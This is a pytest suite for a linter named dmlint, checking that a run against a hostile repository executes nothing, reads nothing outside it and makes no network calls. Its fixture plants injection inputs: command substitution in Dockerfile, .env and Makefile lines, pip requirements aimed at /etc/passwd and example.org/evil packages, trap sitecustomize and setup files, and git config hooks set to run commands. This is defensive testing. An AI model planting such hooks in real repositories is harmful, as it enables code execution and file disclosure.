"""What a run does to the world, whatever the repository holds: it reads that repository, asks git, and prints."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from watched import Deed, watch

import dmlint

TRAP = "open('ran', 'w').close()\nraise SystemExit('a file of the repository was run')\n"
SHELL_TRAP = "#!/bin/sh\ntouch ran\n"
TREE = {
    "Dockerfile": (
        "FROM nvcr.io/nvidia/isaac-sim:5.0.0\n"
        "COPY . /app\n"
        "WORKDIR /app\n"
        "RUN touch ran && $(touch ran) ; `touch ran`\n"
        "RUN pip install -r requirements.txt -r ../../../../etc/passwd -c /etc/hosts\n"
        "RUN pip install https://example.org/evil-1.0.tar.gz git+https://example.org/evil.git numpy\n"
        "RUN ./setup.sh && pip install .\n"
    ),
    "other.Dockerfile": "# syntax=example.org/evil/frontend\nFROM nvcr.io/nvidia/isaac-sim:5.0.0\nRUN touch ran\n",
    "compose.yaml": "services:\n  sim:\n    build: .\n    env_file: ../../../../etc/environment\n",
    ".env": "A=$(touch ran)\n",
    "requirements.txt": (
        "--index-url https://example.org/simple\n-r ../../outside.txt\n-r /etc/passwd\n-r https://example.org/r.txt\n"
        "numpy\n-e .\n"
    ),
    "pyproject.toml": (
        '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
        '[project]\nname = "gr00t"\ndynamic = ["dependencies", "version"]\n'
        '[tool.setuptools.dynamic]\ndependencies = { file = ["requirements.txt"] }\n'
        'version = { attr = "backend.version" }\n'
    ),
    "backend.py": TRAP,
    "setup.py": "from setuptools import setup\nsetup(install_requires=['numpy'])\n" + TRAP,
    "click.py": TRAP,
    "tomli.py": TRAP,
    "sitecustomize.py": TRAP,
    "script.py": "# /// script\n# dependencies = ['numpy']\n# ///\n" + TRAP,
    "setup.sh": SHELL_TRAP + "pip install numpy\n",
    "git": SHELL_TRAP,
    "Makefile": "X := $(shell touch ran)\nall:\n\tpip install numpy\n",
    "dmlint.toml": "fail-on = 'warning'\n",
    ".pre-commit-config.yaml": "repos: []\n",
}
CALLS = [
    pytest.param(("check",), id="check"),
    pytest.param(("check", "--diff", "--unsafe-fixes"), id="diff"),
    pytest.param(("check", "--fix", "--unsafe-fixes"), id="fix"),
    pytest.param(("check", "--output-format", "json"), id="json"),
    pytest.param(("deps",), id="deps"),
    pytest.param(("matrix",), id="matrix"),
    pytest.param(("baseline",), id="baseline"),
]
PYTHON = (sys.prefix, sys.base_prefix, sys.exec_prefix, os.devnull)
OWN = tuple(place.resolve() for place in (*map(Path, PYTHON), *Path(dmlint.__file__).parents[:2]))
"""Where dmlint, its rules, what it is built on and Python itself lie."""


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    """A repository that tries to be run, read beyond, and asked for over the network."""
    (tmp_path / "outside.txt").write_text("numpy==2.0.0\n", encoding="utf-8")
    root = tmp_path / "a" / "repository"
    for name, text in TREE.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text, encoding="utf-8")
        (root / name).chmod(0o755)
    (root / "constraints.txt").symlink_to("../../outside.txt")
    subprocess.run(["git", "init", "-q", "."], cwd=root, check=True)
    for key in ("core.fsmonitor", "core.pager", "core.editor", "alias.ls-files"):
        subprocess.run(["git", "config", key, "touch ran"], cwd=root, check=True)
    return root


def within(place: Path, folders: tuple[Path, ...]) -> bool:
    return any(place.resolve().is_relative_to(folder) for folder in folders)


def names(deeds: list[Deed], *events: str) -> list[Path]:
    """The paths that the interpreter did something with."""
    return [Path(deed.names[0]) for deed in deeds if deed.event in events and deed.names]


@pytest.mark.parametrize("call", CALLS)
def test_nothing_of_the_repository_is_run_and_nothing_around_it_is_read(call: tuple[str, ...], tree: Path) -> None:
    log = tree.parents[1] / "log"
    run, deeds = watch(tree, log, *call)
    assert run.code in (0, 1), run.err
    assert not (tree / "ran").exists()
    assert not [deed for deed in deeds if deed.event.startswith(("socket.", "http.", "urllib.", "ftplib."))]
    launched = names(deeds, "subprocess.Popen", "os.system", "os.exec", "os.spawn")
    assert all(program.name in ("git", "git.exe") and program.is_absolute() for program in launched)
    assert not [program for program in launched if within(program, (tree,))]
    compiled = [place for place in names(deeds, "exec", "compile") if place.is_absolute()]
    assert not [place for place in compiled if within(place, (tree.resolve(),))]
    places = [tree / place for place in names(deeds, "open")]
    assert not [place for place in places if not within(place, (*OWN, tree.resolve()))]
    assert [place for place in places if within(place, (tree.resolve(),))]


def test_what_lies_outside_is_said_and_not_quoted(tree: Path) -> None:
    run, _ = watch(tree, tree.parents[1] / "log", "check", "--output-format", "json", "--select", "DM9")
    for path in ("../../outside.txt", "/etc/passwd", "../../../../etc/passwd", "/etc/hosts", "constraints.txt"):
        assert path in run.out
    assert "numpy==2.0.0" not in run.out
    assert "root:" not in run.out


def test_python_is_not_led_astray_by_the_working_directory(tree: Path) -> None:
    environ = {name: value for name, value in os.environ.items() if not name.startswith(("DMLINT_", "GITHUB_"))}
    command = [sys.executable, "-m", "dmlint", "--output-format", "concise"]
    done = subprocess.run(command, cwd=tree, env=environ, check=False, capture_output=True, encoding="utf-8")
    assert done.returncode == 1, done.stderr
    assert "DM101" in done.stdout
    assert not (tree / "ran").exists()


def takes_the_network_away() -> bool:
    """Whether this system lets us start a process in a network namespace of its own."""
    program = shutil.which("unshare")
    if program is None:
        return False
    return subprocess.run([program, "-rn", "true"], check=False, capture_output=True).returncode == 0


@pytest.mark.skipif(not takes_the_network_away(), reason="no network namespaces for users here")
@pytest.mark.parametrize("call", CALLS)
def test_a_run_needs_no_network(call: tuple[str, ...], tree: Path) -> None:
    environ = {name: value for name, value in os.environ.items() if not name.startswith(("DMLINT_", "GITHUB_"))}
    before = {path: path.read_bytes() for path in tree.rglob("*") if path.is_file()}
    ended = []
    for within in ((), ("unshare", "-rn")):
        command = [*within, sys.executable, "-m", "dmlint", *call]
        done = subprocess.run(command, cwd=tree, env=environ, check=False, capture_output=True, encoding="utf-8")
        ended.append((done.returncode, done.stdout, done.stderr))
        for path, data in before.items():
            path.write_bytes(data)
        (tree / ".dmlint-baseline.json").unlink(missing_ok=True)
    assert ended[0] == ended[1]
    assert ended[0][0] in (0, 1)
